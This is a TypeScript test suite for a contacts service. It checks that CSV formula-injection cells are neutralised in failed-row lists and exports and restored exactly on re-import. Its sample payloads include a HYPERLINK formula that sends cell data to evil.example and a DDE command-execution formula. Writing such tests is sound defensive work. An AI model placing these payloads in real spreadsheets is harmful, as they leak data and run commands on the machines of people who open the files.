import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvLine, inertCell, restoredCell } from '../../shared/runtime/csv-line.ts';
import { CsvReader } from '../../functions/contacts/domain/imports/csv-reader.ts';
import { exportContacts } from '../../functions/contacts/service/export-contacts.ts';
import { attack } from '../support/attack.ts';
import { newCompany, type TestCompany } from '../support/company.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';

/** W9 of the security review: the name of a stranger's profile becomes a cell at the operator's desk. */
let world: TestApp;
beforeAll(async () => {
  world = await startTestApp();
});
afterAll(() => world.stop());

const formulas = [
  '=HYPERLINK("https://evil.example/?"&B2,"open")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  "'=1+1",
  "''@x",
];
const cellsOf = (csv: string): string[][] => {
  const reader = new CsvReader(',', { offset: 0, line: 1 });
  return [...reader.push(Buffer.from(csv.replace(/^\uFEFF/, ''))), ...reader.end()].map(({ fields }) => fields);
};
const isExecuted = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);
const made = { in: 'shared/runtime/csv-line.ts', replace: 'isRaw ? field : inertCell(field)', by: 'field' };

const api = async (company: TestCompany, method: string, path: string, body?: unknown) =>
  (await world.call({ method, path: `/api/v1${path}`, token: company.tokens.owner, ...(body === undefined ? {} : { body }) })).body as {
    data: Record<string, unknown>;
  };
/** The file through the import of the API; the job as it ended. */
const imported = async (company: TestCompany, file: string): Promise<Record<string, unknown>> => {
  const size = Buffer.byteLength(file);
  const { data: job } = await api(company, 'POST', '/contacts/imports', { filename: 'people.csv', size });
  const upload = job['upload'] as { url: string; headers?: Record<string, string> };
  expect((await fetch(upload.url, { method: 'PUT', headers: upload.headers ?? {}, body: file })).status).toBe(200);
  await api(company, 'POST', `/contacts/imports/${String(job['id'])}/start`);
  await world.drain();
  return (await api(company, 'GET', `/contacts/imports/${String(job['id'])}`)).data;
};
const exported = async (company: TestCompany, isRaw = false): Promise<string> => {
  let text = '';
  for await (const chunk of exportContacts(company.id, { isRaw })) text += chunk.text;
  return text;
};
const phoneOf = (nth: number): string => `4915122220${String(nth).padStart(3, '0')}`;
const people = formulas.map((name, nth) => csvLine([phoneOf(nth), name, 'x'], { isRaw: true })).join('');
const namesOf = async (company: TestCompany): Promise<Map<string, unknown>> => {
  const { data } = await api(company, 'GET', '/contacts?limit=100');
  return new Map((data as unknown as Record<string, unknown>[]).map((each) => [String(each['phone']), each['name']]));
};

describe('W9: cells that a spreadsheet executes', () => {
  attack('are inert in the list of failed rows, and the list can be imported again', [made], async () => {
    const company = await newCompany();
    const failing = formulas.map((name, nth) => csvLine([`${nth}`, name], { isRaw: true })).join('');
    const job = await imported(company, `phone,name\r\n${failing}`);
    const list = await (await fetch(String(job['errors_url']))).text();
    const [, ...rows] = cellsOf(list);
    expect(rows).toHaveLength(formulas.length);
    expect(rows.flat().filter(isExecuted)).toEqual([]);
    const repaired = rows.map(([, , , name = ''], nth) => csvLine([phoneOf(nth), name], { isRaw: true })).join('');
    await imported(company, `phone,name\r\n${repaired}`);
    const names = await namesOf(company);
    // an import takes one apostrophe off: the file's own too, when it stands before such a character
    for (const [nth, name] of formulas.entries()) expect(names.get(phoneOf(nth))).toBe(restoredCell(name).trim());
  });

  attack('are inert in an export, and an import of the export is the same contacts', [made], async () => {
    const [first, second] = [await newCompany(), await newCompany()];
    await imported(first, `phone,name,city\r\n${people}`);
    const csv = await exported(first);
    expect(cellsOf(csv).flat().filter(isExecuted)).toEqual([]);
    await imported(second, csv);
    expect(await namesOf(second)).toEqual(await namesOf(first));
  });

  test('are left as they are by a raw export', async () => {
    const company = await newCompany();
    await imported(company, `phone,name\r\n${csvLine([phoneOf(1), '=1+1'], { isRaw: true })}`);
    expect(
      cellsOf(await exported(company, true))
        .flat()
        .filter(isExecuted),
    ).toEqual(['=1+1']);
  });

  test('no cell is executed, and each is restored exactly', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', '"')).map((each) => each.join('')),
    );
    fc.assert(
      fc.property(cell, (given) => {
        expect(isExecuted(inertCell(given))).toBe(false);
        expect(restoredCell(inertCell(given))).toBe(given);
      }),
    );
  });
});
